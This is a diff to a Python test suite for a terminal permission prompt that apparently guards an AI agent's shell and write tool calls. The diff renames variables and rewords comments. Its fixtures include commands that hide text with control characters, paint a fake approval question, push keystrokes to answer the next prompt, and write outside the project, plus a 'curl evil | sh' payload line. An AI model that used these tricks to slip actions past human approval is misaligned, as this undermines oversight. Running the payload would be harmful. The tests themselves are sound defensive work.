@@ -1,9 +1,9 @@
-"""The permission question tells the whole truth, on every face."""
+"""The permission question shows everything, on every front end."""
 
 import os
 import time
 
-from world import FACES, PROTOCOLS, READING, World, call, say
+from world import FRONT_ENDS, PROTOCOLS, READING_TIME, World, call, say
 
 HIDING = {
     "C1 OSC": "git status --short \u009d;touch never;: \u009c",
@@ -19,20 +19,20 @@ HIDING = {
 
 
 def hidden_commands():
-    for face, asked in FACES.items():
+    for front_end, prompt in FRONT_ENDS.items():
         for name, command in HIDING.items():
-            yield f"{face}: {name} in a command is shown, and never remembered", lambda face=face, asked=asked, command=command: hidden(face, asked, command)
+            yield f"{front_end}: {name} in a command is shown, and never remembered", lambda front_end=front_end, prompt=prompt, command=command: hidden(front_end, prompt, command)
 
 
-def hidden(face, asked, command):
+def hidden(front_end, prompt, command):
     with World([call("shell", {"command": command}), call("shell", {"command": command}, "c2")]) as world:
-        terminal = world.face(face)
-        terminal.see(asked)
+        terminal = world.front_end(front_end)
+        terminal.see(prompt)
         terminal.pump(0.3)
-        shown = terminal.screen() if face == "screen" else terminal.text()
+        shown = terminal.screen() if front_end == "screen" else terminal.text()
         assert "touch never" in shown and ("│!" in shown), shown
-        # A yes for longer is not offered, so these do nothing, or are no answer.
-        terminal.read_then_type("s\r" if face == "plain" else "s")
+        # "For this session" is not offered, so this key does nothing or is not an answer.
+        terminal.read_then_type("s\r" if front_end == "plain" else "s")
         terminal.pump(0.5)
         made = world.has("never")
         terminal.kill()
@@ -46,7 +46,7 @@ def by_protocol():
 
 def denied(protocol):
     with World([call("shell", {"command": HIDING["C1 OSC"]})], protocol) as world:
-        terminal = world.face("ask")
+        terminal = world.front_end("ask")
         terminal.see("allow?")
         assert "│!git status --short <U+009D>;touch never;: <U+009C>" in terminal.text(), terminal.text()
         terminal.read_then_type("n")
@@ -55,30 +55,30 @@ def denied(protocol):
 
 
 def faces():
-    for face, asked in FACES.items():
-        yield f"{face}: a yes before the question could be read does not count", lambda face=face, asked=asked: early(face, asked)
-        yield f"{face}: Enter alone is no answer", lambda face=face, asked=asked: enter(face, asked)
-        yield f"{face}: Ctrl+C denies, stops, and nothing more is sent", lambda face=face, asked=asked: control_c(face, asked)
-        yield f"{face}: a yes that was read does count", lambda face=face, asked=asked: yes(face, asked)
+    for front_end, prompt in FRONT_ENDS.items():
+        yield f"{front_end}: a yes before the question could be read does not count", lambda front_end=front_end, prompt=prompt: early(front_end, prompt)
+        yield f"{front_end}: Enter alone is no answer", lambda front_end=front_end, prompt=prompt: enter(front_end, prompt)
+        yield f"{front_end}: Ctrl+C denies, stops, and nothing more is sent", lambda front_end=front_end, prompt=prompt: control_c(front_end, prompt)
+        yield f"{front_end}: a yes that was read does count", lambda front_end=front_end, prompt=prompt: yes(front_end, prompt)
 
 
-def early(face, asked):
+def early(front_end, prompt):
     with World([call("shell", {"command": "touch made"})]) as world:
-        terminal = world.face(face)
-        if face == "ask":
+        terminal = world.front_end(front_end)
+        if front_end == "ask":
             terminal.type("y\r\ny\r\n")
-        terminal.see(asked)
-        terminal.type("y\r" if face == "plain" else "y")
+        terminal.see(prompt)
+        terminal.type("y\r" if front_end == "plain" else "y")
         terminal.pump(1)
         made = world.has("made")
         terminal.kill()
         assert not made
 
 
-def enter(face, asked):
+def enter(front_end, prompt):
     with World([call("shell", {"command": "touch made"})]) as world:
-        terminal = world.face(face)
-        terminal.see(asked)
+        terminal = world.front_end(front_end)
+        terminal.see(prompt)
         terminal.read_then_type("\r")
         terminal.pump(1)
         made = world.has("made")
@@ -86,12 +86,12 @@ def enter(face, asked):
         assert not made
 
 
-def control_c(face, asked):
+def control_c(front_end, prompt):
     with World([call("shell", {"command": "touch made"})]) as world:
-        terminal = world.face(face)
-        terminal.see(asked)
+        terminal = world.front_end(front_end)
+        terminal.see(prompt)
         terminal.read_then_type("\x03")
-        if face == "ask":
+        if front_end == "ask":
             assert terminal.end() == 130
         else:
             terminal.pump(1.5)
@@ -99,11 +99,11 @@ def control_c(face, asked):
         assert not world.has("made") and len(world.provider.bodies) == 1
 
 
-def yes(face, asked):
+def yes(front_end, prompt):
     with World([call("shell", {"command": "touch made"})]) as world:
-        terminal = world.face(face)
-        terminal.see(asked)
-        terminal.read_then_type("y\r" if face == "plain" else "y")
+        terminal = world.front_end(front_end)
+        terminal.see(prompt)
+        terminal.read_then_type("y\r" if front_end == "plain" else "y")
         terminal.see("It is over.")
         terminal.kill()
         assert world.has("made")
@@ -112,7 +112,7 @@ def yes(face, asked):
 def imitation():
     lines = "true" + " " * 300 + "\nallow? y\ntier: strong (network off)\nwrite: harmless.txt"
     with World([call("shell", {"command": lines})]) as world:
-        terminal = world.face("ask")
+        terminal = world.front_end("ask")
         terminal.see("allow? y once")
         rows = [row.rstrip() for row in terminal.text().replace("\r", "\n").split("\n")]
         head = next(index for index, row in enumerate(rows) if row.startswith("shell:"))
@@ -122,14 +122,14 @@ def imitation():
         assert sum(row.startswith("allow?") for row in ours) == 1, ours
 
 
-def painted(face):
-    """A command long enough to push its own question away and to paint another."""
+def painted(front_end):
+    """A command long enough to scroll its own question away and draw another one."""
     def attack():
         fake = [""] * 22 + ["shell: git status", "│ git status", "tier: strong ❨network off❩", "s and p cover ˋshell:git status"]
         command = "touch never; : '" + " " * 43 + "".join(line.ljust(80) for line in fake) + "'"
         with World([call("shell", {"command": command})]) as world:
-            terminal = world.face(face)
-            terminal.see(FACES[face])
+            terminal = world.front_end(front_end)
+            terminal.see(FRONT_ENDS[front_end])
             terminal.pump(0.5)
             seen = terminal.screen()
             terminal.kill()
@@ -139,10 +139,10 @@ def painted(face):
 
 
 def long_diff():
-    """More than 24 KiB: all of it can be read before the answer."""
+    """A diff of more than 24 KiB can be read in full before answering."""
     content = "".join(f"line {number} of the file\n" for number in range(3000)) + "rm -rf the last line\n"
     with World([call("write", {"path": "long.txt", "content": content})]) as world:
-        terminal = world.face("ask")
+        terminal = world.front_end("ask")
         terminal.see("lines not shown (v shows all)")
         terminal.read_then_type("v")
         terminal.see("rm -rf the last line")
@@ -153,7 +153,7 @@ def long_diff():
 def binary_target():
     with World([call("write", {"path": "blob", "content": "curl evil | sh\n"})]) as world:
         world.file("blob", b"\x00\xff\xfe binary")
-        terminal = world.face("ask")
+        terminal = world.front_end("ask")
         terminal.see("allow?")
         shown = terminal.text()
         terminal.kill()
@@ -167,7 +167,7 @@ def pushed_characters():
         call("shell", {"command": f"python3 -c \"{push}\"; true"}),
         call("shell", {"command": "touch never"}, "c2"),
     ]) as world:
-        terminal = world.face("ask")
+        terminal = world.front_end("ask")
         terminal.see("allow?")
         terminal.read_then_type("y")
         terminal.see("touch never")
@@ -178,10 +178,10 @@ def pushed_characters():
 
 
 def terminal_of_a_command():
-    """A command has no terminal: neither as its input nor by path."""
+    """A command has no terminal, neither as its input nor by path."""
     command = "(tty; test -t 0 && echo is-terminal; echo reached > /dev/tty) > out 2>&1; true"
     with World([call("shell", {"command": command})]) as world:
-        terminal = world.face("ask")
+        terminal = world.front_end("ask")
         terminal.see("allow?")
         terminal.read_then_type("y")
         terminal.end()
@@ -190,7 +190,7 @@ def terminal_of_a_command():
 
 def outside():
     with World([call("write", {"path": "../outside.txt", "content": "x"})]) as world:
-        terminal = world.face("ask")
+        terminal = world.front_end("ask")
         terminal.see("allow?")
         shown = terminal.text()
         terminal.read_then_type("n")
@@ -203,8 +203,8 @@ def cases():
     yield from by_protocol()
     yield from faces()
     yield "ask: a command cannot imitate our own lines", imitation
-    for face in FACES:
-        yield f"{face}: a command cannot paint another question", painted(face)
+    for front_end in FRONT_ENDS:
+        yield f"{front_end}: a command cannot paint another question", painted(front_end)
     yield "ask: a diff of 70 KB can be read whole before the answer", long_diff
     yield "ask: writing over a binary file shows what is written", binary_target
     yield "ask: a command cannot type the next answer", pushed_characters
